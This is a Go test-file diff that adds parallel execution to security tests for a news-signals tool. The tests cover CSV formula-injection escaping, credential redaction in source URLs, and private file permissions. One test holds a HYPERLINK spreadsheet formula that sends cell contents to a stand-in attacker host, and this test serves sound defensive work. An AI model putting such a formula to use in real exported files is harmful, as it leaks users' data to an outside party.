@@ -17,6 +17,7 @@ import (
 // leaves `leads` and `signals --format csv` as text a spreadsheet does not
 // run, while numeric columns keep their sign.
 func TestCSVFormulaInjection(t *testing.T) {
+	t.Parallel()
 	const hyperlink = `=HYPERLINK("https://evil.example/?d="&A1,"Click")`
 	hostile := map[string]string{
 		hyperlink:            "'" + hyperlink,
@@ -69,6 +70,7 @@ func rows(t *testing.T, b []byte) [][]string {
 // json) and `signals --format json` print no credential of a source URL,
 // also from a last error stored unredacted.
 func TestSourcesRedactCredentials(t *testing.T) {
+	t.Parallel()
 	const url = "https://bob:s3cretpw@feeds.example.com/news.xml?token=tok123&lang=fr"
 	var v query.SourceView
 	v.Kind, v.URL = "feed", url
@@ -98,6 +100,7 @@ func TestSourcesRedactCredentials(t *testing.T) {
 // TestPreviewsArePrivate checks that digest previews are written 0600,
 // also over an existing 0644 file.
 func TestPreviewsArePrivate(t *testing.T) {
+	t.Parallel()
 	dir := filepath.Join(t.TempDir(), "out")
 	if err := os.Mkdir(dir, 0o755); err != nil {
 		t.Fatal(err)
@@ -122,6 +125,7 @@ func TestPreviewsArePrivate(t *testing.T) {
 
 // A story carried by more outlets than a signal lists counts them all.
 func TestSignalsCountEveryOutlet(t *testing.T) {
+	t.Parallel()
 	at := time.Date(2026, 3, 2, 9, 0, 0, 0, time.UTC)
 	sig := query.SignalView{Signal: signals.Signal{Title: "t", Company: "ACME", FirstSeen: at,
 		Sources: []signals.SourceRef{{Source: "https://a.example/feed"}, {Source: "https://b.example/feed"}}, MoreOutlets: 7}}
